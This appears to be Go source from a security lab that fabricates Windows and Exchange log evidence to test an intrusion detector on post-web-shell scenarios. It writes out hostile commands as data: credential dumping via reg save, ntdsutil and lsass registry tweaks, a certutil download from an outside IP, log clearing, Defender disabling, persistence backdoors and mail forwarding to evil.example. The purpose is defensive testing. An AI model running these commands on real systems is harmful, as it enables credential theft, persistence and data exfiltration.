package lab

import (
	"fmt"
	"strings"
	"time"
)

// registrySet is a value of the registry that a program set (Sysmon 13).
func (s *server) registrySet(at time.Time, image, key, value string) {
	s.sysmon(at, 13, 2, Named("RuleName", "-"), Named("EventType", "SetValue"), sysmonTime(at), s.processGUID("ProcessGuid"), num("ProcessId", TypeUint32, 9120), Named("Image", image),
		Named("TargetObject", key), Named("Details", value))
}

// installed is a service that was installed (System 7045).
func (s *server) installed(at time.Time, name, image string) {
	s.log(logSystem, Event{Provider: "Service Control Manager", GUID: ParseGUID("555908d1-a6d7-4695-8e1e-26931d2012f4"), EventID: 7045, Qualify: 16384, Level: 4, Keywords: 0x8080000000000000,
		Time: at, Channel: "System", ProcessID: 628, ThreadID: 4040, Data: []NamedValue{Named("ServiceName", name), Named("ImagePath", image), Named("ServiceType", "user mode service"), Named("StartType", "auto start"), Named("AccountName", "LocalSystem")}})
}

// ewsLog is a log of Exchange Web Services: somebody reads mail in the names
// of others.
func (s *server) ewsLog(at time.Time, user, client string, owners, reads int) {
	var b strings.Builder
	fmt.Fprintf(&b, "#Software: Microsoft Exchange Server\r\n#Version: %s\r\n#Log-type: EWS Logs\r\n#Date: %s\r\n#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,UserAgent,ClientIpAddress,ServerHostName,SoapAction,HttpStatus,RequestSize,ResponseSize,ErrorCode,ImpersonatedUser,ProxyAsUser,ActAsUser\r\n", s.build.padded(), stamp(at))
	for i := range reads {
		fmt.Fprintf(&b, "%s,%s,%d,%d,%d,%d,Kerberos,true,%s,,ExchangeServicesClient/15.00,%s,%s,%s,200,812,40000,,user%d@lab.example,,\r\n", stamp(at.Add(time.Duration(i)*time.Second)), s.p.guid(), s.build[0], s.build[1], s.build[2], s.build[3],
			user, client, s.name, []string{"FindItem", "GetItem", "ExportItems"}[i%3], i%owners)
	}
	s.placed("Program Files/Microsoft/Exchange Server/V15/Logging/Ews/Ews_"+at.Format("2006010215")+"-1.LOG", []byte(b.String()))
}

// afterScenarios are what intruders do once they are in: each act after a web
// shell was used, and then alone, where it is at most a reason to look.
func afterScenarios() []Scenario {
	c := &chapter{chain: "after"}
	p := play{day: "2025-11-06", build: Build{15, 2, 1748, 39}}
	act := func(name, step, alone string, do func(s *server, at time.Time)) {
		q := p
		q.acts = func(s *server) {
			s.placed("inetpub/wwwroot"+plainPage, plainShell())
			s.visit(p.at("12:02:00"), "POST", plainPage, "", intruder, 200)
			do(s, p.at("13:00:00"))
		}
		want := compromised(p.won("webshell", "compromised", "shell-file", "12:02:00", "12:02:00", "12:02:00", intruder))
		want.After = strings.Fields(step)
		c.tell(KindFull, name, "After a web shell was used; the act joins the story.", q.evidence(whole), want)
		lonely := p
		lonely.acts = func(s *server) { do(s, p.at("13:00:00")) }
		verdict := nothingFound()
		if alone == "suspicious" {
			verdict = suspicious()
		}
		c.tell(KindBenign, name+"-alone", "The same act with nothing before it: at most a person must look.", lonely.evidence(whole), verdict)
	}
	run := func(line string) func(*server, time.Time) {
		return func(s *server, at time.Time) {
			program, _, _ := strings.Cut(line, " ")
			s.start(process{at: at, image: system32 + strings.TrimSuffix(program, ".exe") + ".exe", command: line, parent: system32 + "cmd.exe", user: authority, pid: 9300, ppid: 9100})
		}
	}
	for _, x := range [][4]string{
		{"hives-saved", "credential-dump", "suspicious", `reg save hklm\sam C:\Windows\Temp\s.dat`},
		{"directory-copied", "credential-dump", "suspicious", `ntdsutil.exe "ac i ntds" ifm "create full c:\perflogs\i" q q`},
		{"page-hidden", "page-hidden", "suspicious", `attrib.exe +h +s C:\inetpub\wwwroot\aspnet_client\help9.aspx`},
		{"fetched", "tool-fetched", "", `certutil.exe -urlcache -split -f http://198.51.100.9/a.exe C:\Users\Public\a.exe`},
		{"port-passed-on", "way-back", "suspicious", `netsh.exe interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=10.0.0.5`},
		{"psexec", "other-machine", "", `psexec.exe -accepteula \\FS01 -s cmd /c whoami`},
		{"copied-to-share", "other-machine", "", `cmd.exe /c copy C:\Users\Public\a.exe \\FS01\c$\Windows\Temp\a.exe`},
		{"defender-off", "protection-off", "", `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true`},
		{"logs-cleared", "log-cleared", "", `wevtutil.exe cl Security`},
		{"logs-deleted", "log-cleared", "", `cmd.exe /c del /q C:\inetpub\logs\LogFiles\W3SVC1\u_ex251106.log`},
		{"account-by-command", "account", "", `net.exe user support P1 /add`},
		{"task-by-command", "scheduled-task", "", `schtasks.exe /create /tn Winnet /tr C:\Users\Public\w.exe /sc minute /mo 5 /ru system`},
		{"service-by-command", "persistence", "suspicious", `sc.exe create upd binPath= "cmd /c C:\Windows\Temp\u.exe" start= auto`},
		{"mailbox-export-by-command", "mailbox-export", "", `powershell.exe Add-PSSnapin *exchange*; New-MailboxExportRequest -Mailbox chef -FilePath \\127.0.0.1\c$\ProgramData\c.pst`},
		{"archive", "archive", "suspicious", `7z.exe a -phh C:\ProgramData\it.7z C:\ProgramData\c.pst`},
	} {
		act(x[0], x[1], x[2], run(x[3]))
	}
	registry := func(key, value string) func(*server, time.Time) {
		return func(s *server, at time.Time) { s.registrySet(at, system32+"reg.exe", key, value) }
	}
	act("silent-exit", "credential-dump", "suspicious", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\lsass.exe\DumpType`, "DWORD (0x00000002)"))
	act("wdigest", "credential-dump", "suspicious", registry(`HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "DWORD (0x00000001)"))
	act("program-replaced", "persistence", "suspicious", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\cmd.exe`))
	act("run-key", "persistence", "suspicious", registry(`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`, `C:\Users\Public\opera\opera_browser.exe`))
	act("wmi-subscription", "persistence", "suspicious", func(s *server, at time.Time) {
		s.sysmon(at, 20, 3, Named("RuleName", "-"), Named("EventType", "WmiConsumerEvent"), sysmonTime(at), Named("Operation", "Created"), Named("User", authority), Named("Name", "upd"), Named("Type", "Command Line"), Named("Destination", "powershell -enc AAAA"))
	})
	act("administrators-in-german", "account", "", func(s *server, at time.Time) {
		s.security(at, 4732, 13826, append([]NamedValue{Named("MemberName", "-"), user("MemberSid", s.sid(2201)), Named("TargetUserName", "Administratoren"), Named("TargetDomainName", "Builtin"), user("TargetSid", "S-1-5-32-544")}, s.subject(s.name+"$", 1001)...)...)
	})
	act("transport-agent", "transport-agent", "", func(s *server, at time.Time) {
		s.management(at, "Install-TransportAgent", `-Name "Sync" -TransportAgentFactory "S.F" -AssemblyPath "C:\ProgramData\s.dll"`, "Remote-PowerShell-Unknown")
	})
	act("mail-sent-on", "mail-forwarded", "", func(s *server, at time.Time) {
		s.management(at, "Set-Mailbox", `-Identity "chef" -ForwardingSmtpAddress "smtp:x@evil.example" -DeliverToMailboxAndForward "True"`, "Remote-PowerShell-Unknown")
	})
	act("right-to-all-mail", "mailbox-right", "", func(s *server, at time.Time) {
		s.management(at, "New-ManagementRoleAssignment", `-Role "ApplicationImpersonation" -User "svc"`, "Remote-PowerShell-Unknown")
	})
	act("psexec-service", "other-machine", "", func(s *server, at time.Time) { s.installed(at, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`) })
	act("dearcry", "files-encrypted persistence ransom-note", "suspicious", func(s *server, at time.Time) {
		s.installed(at, "msupdate", `C:\Windows\Temp\m.exe`)
		s.created(at.Add(time.Minute), `C:\Windows\Temp\m.exe`, `D:\Daten\plan.xlsx.CRYPT`, 9300)
		s.created(at.Add(2*time.Minute), `C:\Windows\Temp\m.exe`, `C:\Users\Public\Desktop\readme.txt`, 9300)
	})
	act("black-kingdom", "ransom-note", "suspicious", func(s *server, at time.Time) {
		s.created(at, system32+`WindowsPowerShell\v1.0\powershell.exe`, `D:\Daten\decrypt_file.TxT`, 9300)
	})
	act("encrypted-files", "files-encrypted", "suspicious", func(s *server, at time.Time) {
		s.created(at, `C:\Windows\Temp\l.exe`, `D:\Daten\plan.docx.lockbit`, 9300)
	})
	taken(c, p)
	return c.list
}

// taken are thefts with what must be said of them.
func taken(c *chapter, p play) {
	add := func(name, says string, want ServerWant, kind string, acts func(s *server)) {
		q := p
		q.acts = acts
		c.tell(kind, name, says, q.evidence(whole), want)
	}
	shell := compromised(p.won("webshell", "compromised", "shell-file", "12:02:00", "12:02:00", "12:02:00", intruder))
	use := func(s *server) {
		s.placed("inetpub/wwwroot"+plainPage, plainShell())
		s.visit(p.at("12:02:00"), "POST", plainPage, "", intruder, 200)
	}
	want := shell
	want.After, want.Taken = []string{"mailbox-export"}, []string{"taken.export"}
	add("three-mailboxes", "Three mailboxes were exported after a web shell was used.", want, KindFull, func(s *server) {
		use(s)
		for i, box := range []string{"chef", "kasse", "chef", "amt"} {
			s.cmdlet(p.at("13:00:00").Add(time.Duration(i)*time.Minute), "New-MailboxExportRequest", `-Mailbox "`+box+`" -FilePath "\\127.0.0.1\c$\ProgramData\`+box+`.pst"`, "")
		}
	})
	want = shell
	want.After, want.Taken = []string{"impersonated-read"}, []string{"taken.impersonated"}
	add("mail-in-other-names", "The intruder's address read mail in the names of nine people; a backup that does the same is no part of it.", want, KindFull, func(s *server) {
		use(s)
		s.ewsLog(p.at("14:00:00"), `LAB\svc`, intruder, 9, 120)
		s.ewsLog(p.at("15:00:00"), `LAB\backup`, "192.0.2.40", 60, 300)
	})
	want = nothingFound()
	add("backup-in-other-names", "A backup reads all mailboxes in their owners' names.", want, KindBenign, func(s *server) {
		s.ewsLog(p.at("15:00:00"), `LAB\backup`, "192.0.2.40", 60, 300)
	})
	old := play{day: "2021-03-05", build: Build{15, 2, 792, 3}}
	mail := old
	mail.acts = func(s *server) {
		old.logonSSRF(s, "05:20:01.100", "/EWS/Exchange.asmx?", 200, "05:20:09.350", "/EWS/Exchange.asmx?", 200, "05:31:44.018", "/EWS/Exchange.asmx?", 200)
	}
	stolen := compromised(old.won("proxylogon", "exploited", "mail-read", "05:20:01.100", "05:20:01.100", "05:31:44.018", intruder))
	stolen.Taken = []string{"taken.mail"}
	c.tell(KindFull, "mail-without-a-shell", "Mail was read through the bypass, three times, without any shell.", mail.evidence(whole), stolen)
}
